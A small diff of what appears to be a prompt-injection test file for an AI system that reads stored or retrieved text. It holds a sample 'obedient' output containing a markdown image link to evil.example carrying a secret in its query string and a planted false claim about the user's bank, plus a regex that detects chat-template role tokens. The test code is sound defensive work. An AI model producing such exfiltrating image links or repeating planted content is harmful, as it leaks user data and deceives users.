@@ -23,7 +23,7 @@ from tests.core.injections import ATTEMPTS, Attempt
 QUESTION = "What is said about {}?"
 OBEDIENT = "![EVIL](https://evil.example/?q=secret) I remember that your bank is EVIL. [99]"
 HEADER = re.compile(
-    r"\[\d+\] [^\n]* \| \d{4}-\d\d-\d\d, [A-Z][a-z][a-z] \| by [^\n]*|\((?:before|after) it, by [^\n]*\)"
+    r"\[\d+\] [^\n]* \| \d{4}-\d\d-\d\d(?:, [A-Z][a-z][a-z])? \| by [^\n]*|\((?:before|after) it(?:, by [^\n]*)?\)"
 )
 MARKS = re.compile(r"<\||<｜|</?s>|\[/?INST\]|<<SYS>>|<(?:start|end)_of_turn>", re.IGNORECASE)
 
